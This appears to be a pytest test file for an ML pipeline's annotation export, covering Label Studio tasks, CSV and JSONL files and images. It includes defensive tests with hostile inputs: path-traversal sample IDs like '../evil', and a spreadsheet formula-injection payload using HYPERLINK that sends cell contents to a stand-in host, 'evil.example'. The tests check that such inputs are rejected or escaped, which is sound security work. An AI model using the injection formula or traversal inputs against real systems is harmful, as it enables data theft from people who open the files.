import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from PIL import Image

from pipeline.annotation.export import (
    CSV_FILE,
    IMAGES_DIR,
    JSONL_FILE,
    LABEL_CONFIG_FILE,
    TASKS_FILE,
    ExportError,
    export_dir,
    export_selection,
    exported_sample_ids,
)
from pipeline.config import parse_config
from pipeline.store import MANIFEST_NAME, read_manifest

DIGITS = [str(i) for i in range(10)]


def _cfg(tmp_path, **annotate):
    data = {"paths": {"artifacts": "artifacts"}, "data": {"answers": DIGITS}, "annotate": annotate}
    return parse_config(data, root=tmp_path)


def _selection(ids, *, predictions=True):
    return [
        {"sample_id": sid, "rank": k, "score": 1.0 - k / 10, "strategy": "margin", "diversity": "top_k",
         "adapter_digest": "ab" * 32, "prediction": str(k % 10) if predictions else None,
         "confidence": 0.5 if predictions else None, "scores": {"margin": 0.25, "entropy": 1.5}}
        for k, sid in enumerate(ids)
    ]


def _files(folder):
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and p.name != MANIFEST_NAME}


def test_all_formats_are_valid_and_point_inside_the_export(tmp_path, make_vqa):
    ds, _ = make_vqa()
    cfg = _cfg(tmp_path, export_images="prepared")
    out = export_dir(cfg.artifacts, 1)
    sel = _selection(["s003", "s001", "s007"])
    sel[2]["prediction"] = "not-a-digit"  # Label Studio would refuse it as a pre-annotation
    m = export_selection(sel, ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=1)
    assert set(m.outputs) == {TASKS_FILE, LABEL_CONFIG_FILE, CSV_FILE, JSONL_FILE, IMAGES_DIR}
    read_manifest(out)  # every output verifies against its digest

    tasks = json.loads((out / TASKS_FILE).read_text())
    assert [t["data"]["sample_id"] for t in tasks] == ["s003", "s001", "s007"]
    t0 = tasks[0]
    assert t0["data"]["image"] == "/data/local-files/?d=rounds/001/export/images/s003.png"
    assert t0["data"]["text"] == "Which digit is shown?"
    assert t0["data"]["original_image"] == "img_003.jpg"
    assert t0["meta"] == {"sample_id": "s003", "round": 1, "rank": 0, "score": 1.0,
                          "scores": {"entropy": 1.5, "margin": 0.25}}
    pred = t0["predictions"][0]
    assert pred["score"] == 0.5 and pred["model_version"] == "adapter-" + "ab" * 6
    assert pred["result"][0]["value"] == {"choices": ["0"]} and pred["result"][0]["type"] == "choices"
    assert tasks[2]["predictions"] == []
    for t in tasks:  # the URL's relative path resolves to a file inside the export folder
        rel = t["data"]["image"].split("?d=", 1)[1]
        p = (cfg.artifacts / rel).resolve()
        assert p.is_file() and p.is_relative_to(out.resolve())

    xml = ET.fromstring((out / LABEL_CONFIG_FILE).read_text())
    choices = xml.find("Choices")
    assert choices.get("name") == "answer" and choices.get("toName") == "image"
    assert [c.get("value") for c in choices.findall("Choice")] == DIGITS
    assert xml.find("Image").get("value") == "$image"

    rows = list(csv.DictReader(io.StringIO((out / CSV_FILE).read_text())))
    assert [r["sample_id"] for r in rows] == ["s003", "s001", "s007"]
    assert rows[0] == {"sample_id": "s003", "image": "s003.png", "original_image": "img_003.jpg",
                       "text": "Which digit is shown?", "model_answer": "0", "confidence": "0.5", "label": ""}
    jl = [json.loads(line) for line in (out / JSONL_FILE).read_text().splitlines()]
    assert jl[1]["image"] == "s001.png" and jl[1]["label"] == "" and jl[1]["model_answer"] == "1"

    by_id = {r["sample_id"]: r for r in ds}
    for sid in ("s003", "s001", "s007"):
        assert (out / IMAGES_DIR / f"{sid}.png").read_bytes() == by_id[sid]["prepared"]
    assert sorted(p.name for p in (out / IMAGES_DIR).iterdir()) == ["s001.png", "s003.png", "s007.png"]
    assert exported_sample_ids(cfg.artifacts) == {"s001", "s003", "s007"}


def test_reexport_is_byte_identical(tmp_path, make_vqa):
    ds, _ = make_vqa()
    cfg = _cfg(tmp_path)
    out = export_dir(cfg.artifacts, 0)
    sel = _selection(["s002", "s005", "s009", "s000"])
    m1 = export_selection(sel, ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
    first = _files(out)
    m2 = export_selection(sel, ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
    assert _files(out) == first
    assert m1.outputs == m2.outputs and m1.key == m2.key


def test_smaller_reexport_leaves_no_stale_images(tmp_path, make_vqa):
    ds, _ = make_vqa()
    cfg = _cfg(tmp_path)
    out = export_dir(cfg.artifacts, 2)
    export_selection(_selection(["s001", "s002", "s003"]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=2)
    export_selection(_selection(["s004"]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=2)
    assert [p.name for p in (out / IMAGES_DIR).iterdir()] == ["s004.jpg"]  # the original JPEG (legible)
    read_manifest(out)


def test_open_answers_get_a_textarea_and_original_images(tmp_path, make_vqa):
    ds, _ = make_vqa(open_answers=True)
    cfg = parse_config({"paths": {"artifacts": "artifacts"}, "annotate": {"export_images": "original"}},
                       root=tmp_path)
    out = export_dir(cfg.artifacts, 0)
    export_selection(_selection(["s001", "s002"]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
    xml = ET.fromstring((out / LABEL_CONFIG_FILE).read_text())
    assert xml.find("Choices") is None and xml.find("TextArea").get("name") == "answer"
    pred = json.loads((out / TASKS_FILE).read_text())[0]["predictions"][0]["result"][0]
    assert pred["type"] == "textarea" and pred["value"] == {"text": ["0"]}
    img = out / IMAGES_DIR / "s001.jpg"
    assert Image.open(img).format == "JPEG"
    assert img.read_bytes() == next(r for r in ds if r["sample_id"] == "s001")["image"]


def test_selected_formats_only_and_no_predictions(tmp_path, make_vqa):
    ds, _ = make_vqa()
    cfg = _cfg(tmp_path, formats=["csv", "jsonl"])
    out = export_dir(cfg.artifacts, 0)
    m = export_selection(_selection(["s001"], predictions=False), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
    assert set(m.outputs) == {CSV_FILE, JSONL_FILE}
    assert not (out / TASKS_FILE).exists() and not (out / IMAGES_DIR).exists()
    assert json.loads((out / JSONL_FILE).read_text())["model_answer"] is None


@pytest.mark.parametrize("bad", ["../evil", ".hidden", "a/b", "x" * 200, "", None, "a\\b"])
def test_unsafe_sample_id_is_rejected_before_writing(tmp_path, make_vqa, bad):
    ds, _ = make_vqa(n=3)
    ds = ds.map(lambda r: {"sample_id": bad if r["sample_id"] == "s001" else r["sample_id"]})
    cfg = _cfg(tmp_path)
    out = export_dir(cfg.artifacts, 0)
    with pytest.raises(ExportError, match="not a safe file name"):
        export_selection(_selection(["s000", bad]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
    assert not cfg.artifacts.exists()


def test_unknown_sample_and_document_root_outside_are_errors(tmp_path, make_vqa):
    ds, _ = make_vqa(n=3)
    cfg = _cfg(tmp_path)
    with pytest.raises(ExportError, match=r"1 of 2 selected samples are not in the dataset \(first: s999\)"):
        export_selection(_selection(["s000", "s999"]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, export_dir(cfg.artifacts, 0), round_index=0)
    elsewhere = _cfg(tmp_path, document_root=str(tmp_path / "other"))
    with pytest.raises(ExportError, match="not inside annotate.document_root"):
        export_selection(_selection(["s000"]), ds, elsewhere.annotate, elsewhere.data.answers, elsewhere.artifacts, export_dir(cfg.artifacts, 0), round_index=0)
    # A document root above the artifacts folder lengthens the relative path accordingly.
    above = _cfg(tmp_path, document_root=str(tmp_path), image_url_prefix="http://ls/data/local-files/?d=")
    out = export_dir(above.artifacts, 0)
    export_selection(_selection(["s000"]), ds, above.annotate, above.data.answers, above.artifacts, out, round_index=0)
    task = json.loads((out / TASKS_FILE).read_text())[0]
    assert task["data"]["image"] == "http://ls/data/local-files/?d=artifacts/rounds/000/export/images/s000.jpg"


FORMULA_ANSWERS = ["cat", "=1+1", "@home", "-"]  # closed answers that a spreadsheet would run as formulas
HYPERLINK = '=HYPERLINK("evil.example?c="&A1,"click").png'  # a file name holds no /


def test_annotate_csv_cells_never_start_a_formula_and_the_label_import_reads_them_back(tmp_path, make_vqa):
    """Issue 46 #16: annotate.csv wrote a cell like =HYPERLINK(…) raw (spreadsheet formula injection). Cells that
    start a formula now carry a leading ' and the label import takes it off: a round trip keeps every label."""
    from datasets import Dataset

    from pipeline.annotation.labels import import_labels
    from pipeline.annotation.ledger import Ledger
    from pipeline.annotation.matching import SampleIndex
    from pipeline.csvcells import FORMULA_START

    ds, _ = make_vqa(n=4)
    rows = ds.to_list()
    rows[1]["image_path"] = str(tmp_path / "src" / HYPERLINK)
    ds = Dataset.from_list(rows)
    cfg = parse_config({"paths": {"artifacts": "artifacts"}, "data": {"answers": FORMULA_ANSWERS}}, root=tmp_path)
    sel = _selection(["s000", "s001", "s002", "s003"])
    for s, answer in zip(sel, FORMULA_ANSWERS, strict=True):
        s["prediction"] = answer
    out = export_dir(cfg.artifacts, 0)
    export_selection(sel, ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)

    with open(out / CSV_FILE, newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    cells = [c for row in table for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run as a formula"
    col = {name: k for k, name in enumerate(table[0])}
    assert table[2][col["original_image"]] == "'" + HYPERLINK
    assert [r[col["model_answer"]] for r in table[1:]] == ["cat", "'=1+1", "'@home", "'-"]

    # The annotator accepts the model's answers, copying the cells as the file holds them, and saves it.
    for row in table[1:]:
        row[col["label"]] = row[col["model_answer"]]
    labeled = tmp_path / "inbox" / "annotate-labeled.csv"
    labeled.parent.mkdir()
    with open(labeled, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\n").writerows(table)
    # A second sheet names the samples by their file (the original_image cell, as exported), not by sample_id.
    by_file = tmp_path / "inbox" / "by-file.csv"
    by_file.write_text(f'image,label\n"{table[2][col["original_image"]].replace(chr(34), chr(34) * 2)}",@home\n',
                       encoding="utf-8")

    index = SampleIndex([r["sample_id"] for r in rows], None, [r["image_path"] for r in rows])
    for path, round_index in ((labeled, 1), (by_file, 2)):
        ledger = Ledger(tmp_path / "artifacts" / f"labels-{round_index}.jsonl")
        rep = import_labels(path, known_ids=index, answers=FORMULA_ANSWERS, ledger=ledger, round_index=round_index,
                            rejections_dir=tmp_path / "rejections")
        assert not rep.rejected, rep.summary()
        got = ledger.labels()
        assert got == ({"s000": "cat", "s001": "=1+1", "s002": "@home", "s003": "-"} if path == labeled
                       else {"s001": "@home"})


def test_csv_cells_escape_formulas_keep_numbers_and_round_trip():
    from pipeline.csvcells import escape_cell, unescape_cell

    cases = {"=SUM(A1)": "'=SUM(A1)", "+x": "'+x", "-": "'-", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
             "-0.523": "-0.523", "+3": "+3", "1e-5": "1e-5", "'quoted": "''quoted", "'=x": "''=x", "plain": "plain",
             "": "", "'": "''"}
    for value, cell in cases.items():
        assert escape_cell(value) == cell and unescape_cell(cell) == value, value
    assert escape_cell(None) == "" and unescape_cell("'typed by hand") == "'typed by hand"


def _photo(side_w, side_h, fmt="JPEG"):
    """An image with fine print (a sign's words) at its own size."""
    from PIL import ImageDraw

    im = Image.new("RGB", (side_w, side_h), (240, 240, 230))
    ImageDraw.Draw(im).text((10, side_h // 2), "NO ENTRY - staff only", fill=(10, 10, 10))
    buf = io.BytesIO()
    im.save(buf, format=fmt)
    return buf.getvalue()


def test_images_for_people_are_legible_by_default_never_the_32px_model_input(tmp_path, make_vqa):
    """annotate.export_images defaults to legible: the original file as it came (not the prepared 32-px PNG), a very
    large one downscaled to 2048 px on its long side, a small one never upscaled."""
    ds, _ = make_vqa(n=3)
    originals = {"s000": _photo(900, 600), "s001": _photo(3000, 1500), "s002": ds[2]["image"]}
    ds = ds.map(lambda r: {"image": originals[r["sample_id"]]})
    cfg = _cfg(tmp_path)
    assert cfg.annotate.export_images == "legible"
    out = export_dir(cfg.artifacts, 1)
    export_selection(_selection(["s000", "s001", "s002"]), ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out,
                     round_index=1)
    images = out / IMAGES_DIR
    assert (images / "s000.jpg").read_bytes() == originals["s000"]  # the original, byte for byte
    with Image.open(images / "s001.jpg") as big:
        assert big.size == (2048, 1024)  # a 3000-px photo, downscaled (aspect kept) but far above the model's 32 px
    with Image.open(images / "s002.jpg") as small:
        assert small.size == (12, 12)  # never upscaled beyond the original
    tasks = json.loads((out / TASKS_FILE).read_text())
    assert tasks[0]["data"]["image"].endswith("images/s000.jpg")
